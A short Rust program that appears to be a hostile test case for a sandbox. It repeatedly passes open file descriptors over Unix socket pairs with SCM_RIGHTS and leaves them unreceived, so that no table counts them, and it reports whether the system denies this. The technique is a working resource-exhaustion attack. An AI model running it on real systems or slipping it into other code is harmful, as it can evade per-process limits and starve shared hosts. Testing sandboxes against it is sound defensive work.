// hostile: sends open files to itself over sockets and never takes them out, so that no table counts them
// verdict: exits 0 or denied
// leaves: nothing
// layers: L0
// control: same

use std::{
    fs::File,
    io,
    os::{fd::AsRawFd, unix::net::UnixDatagram},
    ptr,
};

#[repr(C)]
struct Rights {
    length: usize,
    level_and_kind: [i32; 2],
    fds: [i32; 2],
}

unsafe extern "C" {
    fn sendmsg(fd: i32, message: *const [usize; 7], flags: i32) -> isize;
}

fn main() {
    const SOL_SOCKET_SCM_RIGHTS: [i32; 2] = [1, 1];
    let mut sockets = Vec::new();
    let mut sent = 0;
    for _ in 0..100_000 {
        let (Ok((one, other)), Ok(file)) = (UnixDatagram::pair(), File::open("/dev/null")) else { break };
        one.set_nonblocking(true).unwrap();
        let fds = [file.as_raw_fd(), other.as_raw_fd()];
        let rights = Rights { length: 24, level_and_kind: SOL_SOCKET_SCM_RIGHTS, fds };
        // A struct msghdr: no name, one piece of no bytes, one control message, no flags.
        let piece = [ptr::from_ref(&0_u8).addr(), 1];
        let message = [0, 0, (&raw const piece).expose_provenance(), 1, (&raw const rights).expose_provenance(), 24, 0];
        // SAFETY: all that it points to lives until it returns.
        if unsafe { sendmsg(one.as_raw_fd(), &message, 0) } < 0 {
            return println!("denied: {} after {sent}", io::Error::last_os_error());
        }
        sockets.push(one);
        sent += 1;
    }
    println!("{sent} files are in flight");
}
